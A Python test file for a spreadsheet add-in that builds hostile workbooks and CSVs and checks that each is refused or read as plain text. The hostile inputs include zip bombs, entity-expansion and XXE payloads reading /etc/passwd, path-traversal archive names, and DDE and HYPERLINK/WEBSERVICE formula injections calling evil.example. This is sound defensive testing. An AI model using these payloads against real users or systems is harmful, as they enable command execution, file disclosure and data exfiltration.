"""Files made to harm: each is refused in a sentence, within bounded memory and time."""

from __future__ import annotations

import os
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape, unescape

import pytest
import xlrd
import xlsxwriter

from tests.support.patience import HANGS
from tests.support.ready import OCCASION, ready_book, ready_bytes, refresh
from tests.support.sample_files import inject, part
from xl_addin import limits
from xl_addin.commands.check import check_book
from xl_addin.errors import ReturnRefused, WorkbookRefused
from xl_addin.excel import dataset_file
from xl_addin.excel.closed import ClosedBook
from xl_addin.layout import Settings
from xl_addin.sources import digest_of, read_grids, xls
from xl_addin.update import Row, SetRows, Update

SHEET = "xl/worksheets/sheet1.xml"
MEMORY = 200 * limits.MEGABYTE
"""What a hostile file may take: the program itself takes some 30 MB."""


@pytest.fixture
def book(tmp_path) -> Path:
    return ready_book(tmp_path)


def xlsx(path: Path, rows=(("Measure Ref", "Month", "Value"), ("M1", "Jun 2015", 585))) -> Path:
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as made:
        sheet = made.add_worksheet()
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return path


def bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/media/image9.png", bytes(60_000_000))


def many_parts(path: Path) -> None:
    inject(path, {f"xl/media/{n}.png": b"" for n in range(limits.MOST_PARTS + 1)}, {})


def lying_size(path: Path) -> None:
    """A sheet that says it unpacks to 100 bytes; what it unpacks to has their checksum first."""
    inject(path, {}, {SHEET: lambda data: data + b" " * 30_000_000})
    data = bytearray(path.read_bytes())
    first = part(path, SHEET)[:100]
    info = next(i for i in zipfile.ZipFile(path).infolist() if i.filename == SHEET)
    entry = data.index(SHEET.encode(), zipfile.ZipFile(path).start_dir) - 46
    for at in (info.header_offset + 14, entry + 16):
        struct.pack_into("<L", data, at, zlib.crc32(first))
        struct.pack_into("<L", data, at + 8, 100)
    path.write_bytes(data)


def far_cell(path: Path) -> None:
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    inject(path, {}, {SHEET: lambda data: data.replace(b"</sheetData>", cell)})


def entities(path: Path) -> None:
    types = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    head = b'?><!DOCTYPE x [<!ENTITY a0 "ha">' + types + b"]>"
    text = b'<c r="A2" t="inlineStr"><is><t>&a9;</t></is></c>'
    edit = lambda data: data.replace(b"?>", head, 1).replace(b'<c r="A2"', text + b'<c r="A2"', 1)  # noqa: E731
    inject(path, {}, {SHEET: edit})


def external(path: Path) -> None:
    head = b'?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    inject(path, {}, {"xl/workbook.xml": lambda data: data.replace(b"?>", head, 1)})


def cut_short(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-500])


def entities_in_texts(path: Path) -> None:
    head = b'?><!DOCTYPE x [<!ENTITY a "Measure Ref">]>'
    edit = lambda data: data.replace(b"?>", head, 1).replace(b"Measure Ref<", b"&a;<", 1)  # noqa: E731
    inject(path, {}, {"xl/sharedStrings.xml": edit})


def nul(path: Path) -> None:
    inject(path, {}, {SHEET: lambda data: data.replace(b"<v>585", b"<v>58\x005")})


def second_directory(path: Path) -> None:
    """Behind one workbook another: one program reads the first, one the second."""
    first, second = path.read_bytes(), xlsx(path.with_name("other.xlsx")).read_bytes()
    path.write_bytes(first[:-2] + struct.pack("<H", len(second)) + second)


def second_ending(path: Path) -> None:
    """An ending in the comment behind the ending."""
    data = path.read_bytes()
    path.write_bytes(data[:-2] + struct.pack("<H", 26) + data[-22:] + b"more")


def second_part(path: Path) -> None:
    """Two sheets of one name, but for capitals: one program reads the first, one the second."""
    inject(path, {SHEET.upper(): part(path, SHEET)}, {})


def second_workbook(path: Path) -> None:
    """The package names one workbook; other programs read the one of the usual name."""
    edit = lambda data: data.replace(b"xl/workbook.xml", b"xl/decoy.xml")  # noqa: E731
    rels = part(path, "xl/_rels/workbook.xml.rels")
    decoy = {"xl/decoy.xml": part(path, "xl/workbook.xml"), "xl/_rels/decoy.xml.rels": rels}
    inject(path, decoy, {"_rels/.rels": edit})


def second_name(path: Path) -> None:
    """Two sheets of one name in the list: the first is far, the second is looked at."""
    again = b'<sheet name="Sheet1" sheetId="2" r:id="rId2"/></sheets>'
    inject(path, {}, {"xl/workbook.xml": lambda data: data.replace(b"</sheets>", again)})


def elsewhere(path: Path) -> None:
    """A cell whose address says another row than the one it stands in."""
    inject(path, {}, {SHEET: lambda data: data.replace(b'r="C2"', b'r="C999999"')})


def long_list(path: Path) -> None:
    blank = b" " * 21_000_000
    inject(path, {}, {"xl/workbook.xml": lambda data: data.replace(b"</workbook>", blank)})


HARM = [
    bomb,
    many_parts,
    lying_size,
    far_cell,
    entities,
    entities_in_texts,
    external,
    cut_short,
    nul,
    second_directory,
    second_ending,
    second_part,
    second_workbook,
    second_name,
    elsewhere,
    long_list,
]


@pytest.mark.parametrize("harm", HARM)
def test_a_return_made_to_harm_is_refused_and_nothing_is_changed(book, tmp_path, harm):
    before, path = book.read_bytes(), xlsx(tmp_path / "June.xlsx")
    harm(path)
    with pytest.raises(ReturnRefused, match=r"June\.xlsx"):
        refresh(book, path)
    assert book.read_bytes() == before
    assert not list(tmp_path.glob("* backups"))


@pytest.mark.parametrize("harm", [bomb, many_parts, entities, external, cut_short])
def test_a_workbook_made_to_harm_is_refused_and_nothing_is_changed(book, harm):
    harm(book)
    before = book.read_bytes()
    with pytest.raises(WorkbookRefused, match=r"Monthly Dataset\.xlsm"):
        refresh(book)
    assert book.read_bytes() == before


def ten_million_rows(path: Path) -> None:
    with path.open("wb") as out:
        out.write(b"Measure Ref,Month,Value\n")
        for _ in range(100):
            out.write(b"M1,Jun 2015,585\n" * 100_000)


def many_short_rows(path: Path) -> None:
    path.write_bytes(b"a,b\n" * 4_900_000)


def repeated_cells(path: Path) -> None:
    document(path, table(row(text("1", 16_384), repeated=1_048_576)))


def cells_without_addresses(path: Path) -> None:
    """Cells that stand where they come: the last of many in the last of many rows."""
    cells = b"<row/>" * 1_048_000 + b"<row>" + b"<c><v>1</v></c>" * 16_000 + b"</row></sheetData>"
    inject(xlsx(path), {}, {SHEET: lambda data: data.replace(b"</sheetData>", cells)})


def one_text_many_times(path: Path) -> None:
    """A text of a megabyte that three thousand cells name by its number."""
    cells = [b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(9, 3009)]
    long = lambda data: data.replace(b"Measure Ref", b"x" * 1_000_000)  # noqa: E731
    end = b"".join(cells) + b"</sheetData>"
    edit = lambda data: data.replace(b"</sheetData>", end)  # noqa: E731
    inject(xlsx(path), {}, {SHEET: edit, "xl/sharedStrings.xml": long})


def one_cell_many_times(path: Path) -> None:
    """The same cell, three million times over: what reaches nowhere takes room too."""
    cells = b"".join(b'<c r="A3"><v>%d</v></c>' % (n * 99_991 % 65_537) for n in range(2_100_000))
    last = b'<row r="3">' + cells + b"</row></sheetData>"
    inject(xlsx(path), {}, {SHEET: lambda data: data.replace(b"</sheetData>", last)})


def many_sheets(path: Path) -> None:
    """Each sheet alone is within the limits."""
    with xlsxwriter.Workbook(path) as made:
        for _ in range(100):
            made.add_worksheet().write(99_999, 9, 1)


def oddly_written(path: Path) -> None:
    """A comment makes a sheet one that has to be written anew before it is read."""
    rows = b"".join(b'<row ht="%d"></row>' % (n * 99_991 % 65_537) for n in range(1_000_000))
    last = b"<!-- -->" + rows + b"</sheetData>"
    inject(xlsx(path), {}, {SHEET: lambda data: data.replace(b"</sheetData>", last)})


def document(path: Path, tables: str, head: str = "", **parts: bytes) -> Path:
    """An OpenDocument spreadsheet of these tables."""
    space = "urn:oasis:names:tc:opendocument:xmlns:"
    spaces = " ".join(f'xmlns:{name}="{space}{name}:1.0"' for name in ("office", "table", "text"))
    content = (
        f"<?xml version='1.0'?>{head}<office:document-content {spaces}><office:body>"
        f"<office:spreadsheet>{tables}</office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        kind = "application/vnd.oasis.opendocument.spreadsheet"
        package.writestr("mimetype", kind, zipfile.ZIP_STORED)
        package.writestr("META-INF/manifest.xml", "<manifest/>")
        package.writestr("content.xml", content)
        for name, data in parts.items():
            package.writestr(name, data)
    return path


def table(*rows: str, name: str = "June") -> str:
    return f'<table:table table:name="{name}">{"".join(rows)}</table:table>'


def row(*cells: str, repeated: int = 1) -> str:
    repeats = f' table:number-rows-repeated="{repeated}"' if repeated > 1 else ""
    return f"<table:table-row{repeats}>{''.join(cells)}</table:table-row>"


def text(words: str, repeated: int = 1, more: str = "") -> str:
    return (
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{repeated}"'
        f"{more}><text:p>{words}</text:p></table:table-cell>"
    )


TIDY = row(text("Measure Ref"), text("Month"), text("Value"), text("Note"))


def one_ods_text_many_times(path: Path) -> None:
    document(path, table(row(text("x" * 1_000_000, 1_000), repeated=50)))


def many_ods_tables(path: Path) -> None:
    far = row("<table:table-cell/>", repeated=199_999) + row(text("x", 10))
    document(path, "".join(table(far, name=f"S{n}") for n in range(30)))


def ods_table_in_a_cell(path: Path) -> None:
    inner = table(row(text("x", 16_000), repeated=1_000_000), name="inside")
    cell = f'<table:table-cell office:value-type="string">{inner}</table:table-cell>'
    document(path, table(TIDY, row(cell)))


def ods_bomb(path: Path) -> None:
    document(path, table(TIDY), **{"Pictures/1.png": bytes(60_000_000)})


def record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def old_workbook(sheets: list[bytes], names: tuple[bytes, ...] = ()) -> bytes:
    """An Excel 97 workbook: its records as they are, in no other wrapping."""
    end = record(0x0A, b"")
    begin = lambda kind: record(0x809, struct.pack("<4H2L", 0x600, kind, 0x1234, 1997, 0, 6))  # noqa: E731
    named = [
        record(0x85, bytes(6) + struct.pack("<BB", 5, 0) + b"S%04d" % n) for n in range(len(sheets))
    ]
    at = len(begin(5)) + sum(map(len, (*named, *names))) + len(end)
    data = begin(5)
    for entry, sheet in zip(named, sheets, strict=True):
        data += entry[:4] + struct.pack("<L", at) + entry[8:]
        at += len(begin(16)) + len(sheet) + len(end)
    return data + b"".join(names) + end + b"".join(begin(16) + s + end for s in sheets)


def old_number(row: int, column: int, value: float) -> bytes:
    return record(0x203, struct.pack("<3Hd", row, column, 0, value))


def far_old_cell(path: Path) -> None:
    path.write_bytes(old_workbook([old_number(65_535, 255, 1.0)]))


def many_old_sheets(path: Path) -> None:
    """Sixty-five thousand rows of thirty columns, forty times."""
    path.write_bytes(old_workbook([old_number(65_535, 29, 1.0)] * 40))


LARGE = [
    ("June.xlsx", cells_without_addresses),
    ("June.xlsx", one_text_many_times),
    ("June.xlsx", one_cell_many_times),
    ("June.xlsx", many_sheets),
    ("June.xlsx", oddly_written),
    ("June.ods", one_ods_text_many_times),
    ("June.ods", many_ods_tables),
    ("June.ods", ods_table_in_a_cell),
    ("June.ods", ods_bomb),
    ("June.xls", far_old_cell),
    ("June.xls", many_old_sheets),
    ("June.csv", ten_million_rows),
    ("June.csv", many_short_rows),
    ("June.ods", repeated_cells),
    ("June.xlsx", lambda path: far_cell(xlsx(path))),
    ("June.xlsx", lambda path: lying_size(xlsx(path))),
    ("June.xlsx", lambda path: bomb(xlsx(path))),
]


def ods_spaces(path: Path) -> None:
    """A few words that stand for two thousand million blanks."""
    document(path, table(TIDY, row(text('<text:s text:c="2000000000"/>'))))


def ods_spaces_many_times(path: Path) -> None:
    document(path, table(TIDY, row(text('<text:s text:c="900000"/>', 100), repeated=90_000)))


def ods_shadowed_text(path: Path) -> None:
    """A text that is hidden behind an attribute of the same name with another prefix."""
    long = f' x:string-value="" xmlns:x="y" office:string-value="{"x" * 1_000_000}"'
    document(path, table(TIDY, row(text("", 1_000, long), repeated=50)))


def ods_shadowed_times(path: Path) -> None:
    few = ' x:number-columns-repeated="1" xmlns:x="y"'
    cell = text("1", 16_000).replace("<table:table-cell", f"<table:table-cell{few}", 1)
    document(path, table(TIDY, row(cell, repeated=1_000_000)))


def ods_blank_rows(path: Path) -> None:
    blank = row("<table:table-cell/>", repeated=1_048_576)
    document(path, table(TIDY, blank * 200, row(text("1"))))


def compound(stream: bytes) -> bytes:
    """An old workbook in the wrapping of its time: a table of sectors, a directory, the stream."""
    size = 512
    stream += bytes(-len(stream) % size)
    sectors = len(stream) // size
    table = [-3, -2, *(n + 1 for n in range(2, sectors + 1)), -2]
    table += [-1] * (128 - len(table))
    name = "Workbook".encode("utf-16-le")
    entry = lambda text, kind, child, start, length: (  # noqa: E731
        (text + bytes(64 - len(text)))
        + struct.pack("<HBB3i", len(text) + 2, kind, 1, -1, -1, child)
        + bytes(36)
        + struct.pack("<iq", start, length)
    )
    root = entry("Root Entry".encode("utf-16-le"), 5, 1, -2, 0)
    directory = root + entry(name, 2, -1, 2, len(stream)) + bytes(256)
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<3L", 0, 1, 1) + struct.pack("<2L", 0, 4096)
    head += (
        struct.pack("<iLiL", -2, 0, -2, 0)
        + struct.pack("<i", 0)
        + struct.pack("<108i", *[-1] * 108)
    )
    return head + struct.pack("<128i", *table[:128]) + directory + stream


def old_lists_of_one_sector(path: Path) -> None:
    """A hundred thousand lists that each name one sector of the table a hundred times over."""
    lists = 90_000
    data = bytearray(512 * (lists + 2))
    data[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<H", data, 30, 9)
    struct.pack_into("<iLiL", data, 60, -2, 0, 1, lists)
    struct.pack_into("<109i", data, 76, *[0] * 109)
    for n in range(1, lists + 1):
        follows = n + 1 if n < lists else -2
        struct.pack_into("<128i", data, 512 * (n + 1), *[0] * 127, follows)
    path.write_bytes(data)


def old_texts(path: Path) -> None:
    """One text of thirty thousand letters in sixty-five thousand cells."""
    words = b"x" * 8_000
    shared = record(0xFC, struct.pack("<2L", 60_000, 1) + struct.pack("<HB", len(words), 0) + words)
    cells = b"".join(record(0xFD, struct.pack("<3HL", n, 0, 0, 0)) for n in range(60_000))
    path.write_bytes(old_workbook([cells], (shared,)))


def old_wide_rows(path: Path) -> None:
    cells = b"".join(old_number(n, 255, 1.0) for n in range(65_536))
    path.write_bytes(old_workbook([cells] * 3))


LARGE += [
    ("June.ods", ods_spaces),
    ("June.ods", ods_spaces_many_times),
    ("June.ods", ods_shadowed_text),
    ("June.ods", ods_shadowed_times),
    ("June.xls", old_texts),
    ("June.xls", old_wide_rows),
]


def sheet_part(body: bytes) -> bytes:
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (space, body)


def with_sheet(path: Path, body: bytes) -> None:
    inject(xlsx(path), {}, {SHEET: lambda _: sheet_part(body)})


def opening_tags(path: Path) -> None:
    """Tags that never close: what looks for a tag's end begins anew at each."""
    with_sheet(path, b"<c =" * 2_000_000)


def openings_in_a_text(path: Path) -> None:
    with_sheet(
        path, b'<row r="1"><c r="A1" t="str"><v>' + b"v>" * 2_000_000 + b"&#49;</v></c></row>"
    )


def blanks_in_tags(path: Path) -> None:
    with_sheet(path, b"<row" + b" " * 4_000_000 + b"/>" + b"<c" + b"\t" * 4_000_000 + b"/>")


def letters_without_end(path: Path) -> None:
    with_sheet(path, b'<row r="1"><c r="' + b"A" * 5_000_000 + b'1"><v>1</v></c></row>')


def digits_without_end(path: Path) -> None:
    with_sheet(path, b'<row r="' + b"9" * 5_000_000 + b'"><c r="A1"><v>1</v></c></row>')


def blank_rows(path: Path) -> None:
    with_sheet(path, b"<row/>" * 1_500_000)


def blank_rows_in_many_sheets(path: Path) -> None:
    """Each within what a sheet holds, and thirty million together."""
    with xlsxwriter.Workbook(path) as made:
        for _ in range(30):
            made.add_worksheet().write(0, 0, 1)
    parts = [f"xl/worksheets/sheet{n}.xml" for n in range(1, 31)]
    inject(path, {}, {name: lambda _: sheet_part(b"<row/>" * 1_000_000) for name in parts})


def many_sheets_on_one_part(path: Path) -> None:
    name = lambda n: b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (n, n)  # noqa: E731
    names = b"".join(map(name, range(2, 1_000))) + b"</sheets>"
    inject(xlsx(path), {}, {"xl/workbook.xml": lambda data: data.replace(b"</sheets>", names)})


def sheet_without_a_name(path: Path) -> None:
    edit = lambda data: data.replace(b'name="Sheet1"', b"")  # noqa: E731
    inject(xlsx(path), {}, {"xl/workbook.xml": edit})


def a_million_digits(path: Path) -> None:
    path.write_bytes(b"Measure Ref,Month,Value\nM1,Jun 2015," + b"9" * 999_000 + b"\n")


def wrong_rows(path: Path) -> None:
    """Two hundred thousand rows, and each of them wrong in its own way."""
    rows = b"".join(b"X%d,Jun 2015,y%d\n" % (n, n) for n in range(199_000))
    path.write_bytes(b"Measure Ref,Month,Value\n" + rows)


def wrong_figures(path: Path) -> None:
    rows = b"".join(b"M1,%02d/%d,%s\n" % (n % 99, n, b"9" * 90) for n in range(60_000))
    path.write_bytes(b"Measure Ref,Month,Value\n" + rows)


HOSTILE = [
    ("June.ods", ods_blank_rows),
    ("June.xls", old_lists_of_one_sector),
    ("June.xls", lambda path: path.write_bytes(compound(old_workbook([b""]))[:700])),
    ("June.xlsx", opening_tags),
    ("June.xlsx", openings_in_a_text),
    ("June.xlsx", blanks_in_tags),
    ("June.xlsx", letters_without_end),
    ("June.xlsx", digits_without_end),
    ("June.xlsx", blank_rows),
    ("June.xlsx", blank_rows_in_many_sheets),
    ("June.xlsx", many_sheets_on_one_part),
    ("June.xlsx", sheet_without_a_name),
    ("June.csv", a_million_digits),
    ("June.csv", wrong_rows),
    ("June.csv", wrong_figures),
]

SECONDS = 40
"""Ten at most were measured; a slower computer is no mistake, a file that takes minutes is one."""

CHECKED = """
import resource, sys
from pathlib import Path
from xl_addin.console import tell_problems
from xl_addin.errors import XlAddinError
from xl_addin.sources import read_return
from xl_addin.sources.catalogue import read_catalogue
resource.setrlimit(resource.RLIMIT_AS, (3_000_000_000, 3_000_000_000))
resource.setrlimit(resource.RLIMIT_CPU, (50, 50))
try:
    found = read_return(Path(sys.argv[1]), read_catalogue(None)[1])
    tell_problems(found.problems)
except XlAddinError as refusal:
    tell_problems(refusal.problems)
status = Path("/proc/self/status").read_text()
children = resource.getrusage(resource.RUSAGE_CHILDREN)
own = resource.getrusage(resource.RUSAGE_SELF)
most = max(int(status.partition("VmHWM:")[2].split()[0]), children.ru_maxrss)
print(most, own.ru_utime + own.ru_stime + children.ru_utime + children.ru_stime)
"""


def told_of(path: Path) -> tuple[float, str]:
    """The memory that refusing a return takes, in bytes, and what an officer is told.

    By the processor's time, in the process apart and in our own together; printed with -s.
    """
    done = subprocess.run(
        [sys.executable, "-c", CHECKED, path], capture_output=True, text=True, timeout=HANGS
    )
    assert done.returncode == 0, done.stderr[-2000:]
    memory, seconds = map(float, done.stdout.split())
    print(f"{path.name}: {seconds:.1f} s, {memory * 1024 / limits.MEGABYTE:.0f} MB")
    assert "June" in done.stderr, "it was taken"
    assert len(done.stderr) < 200_000
    assert seconds < SECONDS
    return memory * 1024, done.stderr


def name_of(made: object) -> str | None:
    return getattr(made, "__name__", None)


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured on Linux")
@pytest.mark.parametrize(("name", "make"), HOSTILE, ids=name_of)
def test_a_hostile_return_is_refused_in_seconds_and_half_a_gigabyte(tmp_path, name, make):
    make(tmp_path / name)
    memory, _ = told_of(tmp_path / name)
    assert memory < 500 * limits.MEGABYTE


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured on Linux")
@pytest.mark.parametrize(("name", "make"), LARGE, ids=name_of)
def test_what_would_fill_the_memory_is_refused_in_seconds_and_bounded_memory(tmp_path, name, make):
    make(tmp_path / name)
    memory, told = told_of(tmp_path / name)
    assert "It is larger than any return needs" in " ".join(told.split())
    assert memory < MEMORY


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"Measure Ref,Month,Value\nM1,Jun 2015,58\x005\n", "not a text file"),
        ("Measure Ref,Month,Value\nМ1,Jun 2015,585\n".encode(), "М1"),
        (b"Measure Ref,Month,Value\nM1,Jun 2015,=cmd|' /C calc'!A0\n", None),
        (b"Measure Ref,Month,Value\nM1,Jun 2015,\xff\xfe\x00\n", "not a text file"),
        (b"Measure Ref,Month,Value\nM1,Jun 2015,caf" + b"\xe9\xc3\xa9\x81", "letters"),
    ],
    ids=["NUL", "Cyrillic ref", "DDE", "binary", "two encodings"],
)
def test_odd_text_is_refused_or_arrives_as_text(book, tmp_path, content, said):
    path = tmp_path / "June.csv"
    path.write_bytes(content)
    if said:
        with pytest.raises(ReturnRefused, match=said):
            refresh(book, path)
        return
    refresh(book, path)
    reasons = [row[6] for row in dataset_file.read(book).tables["History"].rows if row[6]]
    assert "=cmd|' /C calc'!A0" in reasons


@pytest.mark.parametrize(
    "text", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x")', "+1+1", "@SUM(1)"]
)
def test_formulas_in_notes_arrive_as_text(book, tmp_path, text):
    path = tmp_path / "June.csv"
    quoted = '"' + text.replace('"', '""') + '"'
    path.write_text(f"Measure Ref,Month,Value,Note\nM1,Jun 2015,585,{quoted}\n", encoding="utf-8")
    refresh(book, path)
    notes = dataset_file.read(book).tables["DataNotes"].rows
    assert text in [row[2] for row in notes]
    assert text.removeprefix("=") not in _formulas(book)


def _formulas(path: Path) -> str:
    """What all cells calculate, a line each."""
    with zipfile.ZipFile(path) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        written = [re.findall(rb"<f\b[^>]*>([^<]*)</f>", package.read(name)) for name in sheets]
    found = [unescape(formula.decode()) for sheet in written for formula in sheet]
    assert found
    return "\n".join(found)


SPREADSHEETS = [".xlsx", ".ods"]


def spreadsheet(path: Path, ref="M1", value="585", note="", month="Jun 2015") -> Path:
    """A return of one figure, all of it text."""
    if path.suffix == ".ods":
        words = [escape(word) for word in (ref, month, value, note)]
        return document(path, table(TIDY, row(*map(text, words))))
    return xlsx(path, (("Measure Ref", "Month", "Value", "Note"), (ref, month, value, note)))


@pytest.mark.parametrize("suffix", SPREADSHEETS)
@pytest.mark.parametrize("words", ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x")', "+1+1"])
def test_formulas_in_the_texts_of_spreadsheets_arrive_as_text(book, tmp_path, suffix, words):
    refresh(book, spreadsheet(tmp_path / f"June{suffix}", note=words))
    assert words in [row[2] for row in dataset_file.read(book).tables["DataNotes"].rows]
    assert words.removeprefix("=") not in _formulas(book)


@pytest.mark.parametrize("suffix", SPREADSHEETS)
@pytest.mark.parametrize("ref", ["М1", "Μ1"], ids=["Cyrillic", "Greek"])
def test_a_ref_that_only_looks_like_one_is_refused_from_spreadsheets_too(
    book, tmp_path, suffix, ref
):
    before = book.read_bytes()
    with pytest.raises(ReturnRefused, match=r"row 2.*1"):
        refresh(book, spreadsheet(tmp_path / f"June{suffix}", ref=ref))
    assert book.read_bytes() == before


CALLS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"585")',
    '=WEBSERVICE("http://evil.example")',
    "='\\\\evil\\share\\[x.xlsx]S'!A1",
]


@pytest.mark.parametrize("formula", CALLS)
def test_a_formula_that_would_call_another_program_counts_with_what_it_shows(
    book, tmp_path, formula
):
    path = tmp_path / "June.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet()
        sheet.write_row(0, 0, ("Measure Ref", "Month", "Value"))
        sheet.write_row(1, 0, ("M1", "Jun 2015"))
        sheet.write_formula(1, 2, formula, None, 585)
    assert read_grids(path).grids[0].rows[1] == ("M1", "Jun 2015", 585)
    refresh(book, path)
    with zipfile.ZipFile(book) as package:
        parts = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"evil" in data or b"calc'" in data for data in parts)


def test_a_link_to_another_program_in_an_opendocument_file_counts_with_what_it_shows(tmp_path):
    formula = "of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)"
    called = f' table:formula="{formula}" office:string-value="585"'
    cells = (text("M1"), text("Jun 2015"), text("585", more=called), text(""))
    links = '<table:table-source xlink:href="http://evil.example/x.ods" xmlns:xlink="x"/>'
    path = document(tmp_path / "June.ods", table(links, TIDY, row(*cells)))
    assert read_grids(path).grids[0].rows[1][:3] == ("M1", "Jun 2015", "585")


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ],
    ids=["entities", "file", "address"],
)
def test_a_document_type_in_an_opendocument_file_is_refused(tmp_path, head):
    path = document(tmp_path / "June.ods", table(TIDY, row(text("M1"))), head)
    with pytest.raises(ReturnRefused, match="damaged or is not a spreadsheet"):
        read_grids(path)


def test_xlrd_works_out_names_by_the_function_that_is_taken_out_of_it():
    assert "evaluate_name_formula" in xlrd.book.Book.names_epilogue.__code__.co_names
    assert xlrd.book.evaluate_name_formula.__module__ == xls.__name__


def test_names_of_an_old_workbook_that_double_a_text_are_left_unread(tmp_path):
    """Each of forty names joins the one before to itself: 2 to the power of 40 letters."""
    names = [old_name(1, b"\x17\x01\x00x")]
    for number in range(1, 40):
        before = b"\x23" + struct.pack("<H", number) + bytes(2)
        names.append(old_name(number + 1, before + before + b"\x08"))
    cells = b"".join(old_number(0, column, 5.0) for column in range(3))
    path = tmp_path / "June.xls"
    path.write_bytes(old_workbook([cells], tuple(names)))
    assert read_grids(path).grids[0].rows == ((5.0, 5.0, 5.0),)


def old_name(number: int, formula: bytes) -> bytes:
    name = b"\0N%02d" % number
    head = struct.pack("<HBBHHHBBBB", 0, 0, 3, len(formula), 0, 0, 0, 0, 0, 0)
    return record(0x18, head + name + formula)


def test_a_workbook_of_a_thousand_sheets_more_is_refused(tmp_path):
    path = tmp_path / "June.xls"
    path.write_bytes(old_workbook([b""] * (limits.MOST_SHEETS + 1)))
    with pytest.raises(ReturnRefused, match="it has 1,001 sheets"):
        read_grids(path)


def test_an_old_workbook_with_a_password_is_refused(tmp_path):
    password = record(0x2F, struct.pack("<3H", 0, 1, 2))
    path = tmp_path / "June.xls"
    path.write_bytes(old_workbook([old_number(0, 0, 5.0)], (password,)))
    with pytest.raises(ReturnRefused, match="It is protected with a password"):
        read_grids(path)


def test_a_zip_with_a_password_is_refused(tmp_path):
    path = xlsx(tmp_path / "June.xlsx")
    data = bytearray(path.read_bytes())
    for start, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        found = data.find(start)
        while found >= 0:
            data[found + at] |= 1
            found = data.find(start, found + 1)
    path.write_bytes(data)
    with pytest.raises(ReturnRefused, match="It is protected with a password"):
        read_grids(path)


def test_names_in_a_document_that_lead_out_of_it_write_nothing(tmp_path):
    path = document(tmp_path / "June.ods", table(TIDY), **{"../evil.txt": b"x", "/tmp/e.txt": b"x"})
    before = set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir())
    read_grids(path)
    assert set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir()) == before


def test_names_in_a_zip_that_lead_out_of_it_write_nothing_anywhere(book, tmp_path):
    path = xlsx(tmp_path / "June.xlsx")
    inject(path, {"../../evil.txt": b"x", "/tmp/evil.txt": b"x", "..\\evil.txt": b"x"}, {})
    before = set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir())
    refresh(book, path)
    made = (set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir())) - before
    assert {p.name for p in made} <= {
        "Monthly Dataset backups",
        "Monthly Dataset 2026-07-03 09.30.00.xlsm",
        "backups.tsv",
    }


def test_a_link_in_a_folder_of_returns_is_left_out_and_said(book, tmp_path):
    folder = tmp_path / "returns"
    folder.mkdir()
    secret = tmp_path / "secret.csv"
    secret.write_text("Measure Ref,Month,Value\nM1,Jun 2015,585\n", encoding="utf-8")
    (folder / "a.csv").write_text("Measure Ref,Month,Value\nM1,Jun 2015,1\n", encoding="utf-8")
    (folder / "b.csv").symlink_to(secret)
    raw = read_grids(folder)
    assert [file.name for file in raw.files] == ["a.csv"]
    assert "b.csv: It was left out. It only points to a file elsewhere" in str(raw.warnings[0])


def test_links_that_lead_nowhere_or_round_in_a_folder_of_returns_are_not_followed(tmp_path):
    folder = tmp_path / "returns"
    folder.mkdir()
    (folder / "a.csv").write_text("Measure Ref,Month,Value\nM1,Jun 2015,1\n", encoding="utf-8")
    (folder / "b.csv").symlink_to(folder / "b.csv")
    (folder / "c.csv").symlink_to(tmp_path / "gone.csv")
    (folder / "d.csv").symlink_to(tmp_path)
    assert [file.name for file in read_grids(folder).files] == ["a.csv"]


def test_a_return_that_is_a_link_to_itself_is_refused(tmp_path):
    (tmp_path / "June.csv").symlink_to(tmp_path / "June.csv")
    with pytest.raises(ReturnRefused, match=r"June\.csv: It cannot be read"):
        read_grids(tmp_path / "June.csv")


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="no files of a size not told")
def test_a_file_that_says_it_is_empty_is_not_read_beyond_the_limit():
    assert Path("/proc/self/maps").stat().st_size == 0
    with pytest.raises(ReturnRefused, match="Largest return"):
        digest_of(Path("/proc/self/maps"), limits.Limits(size=100))


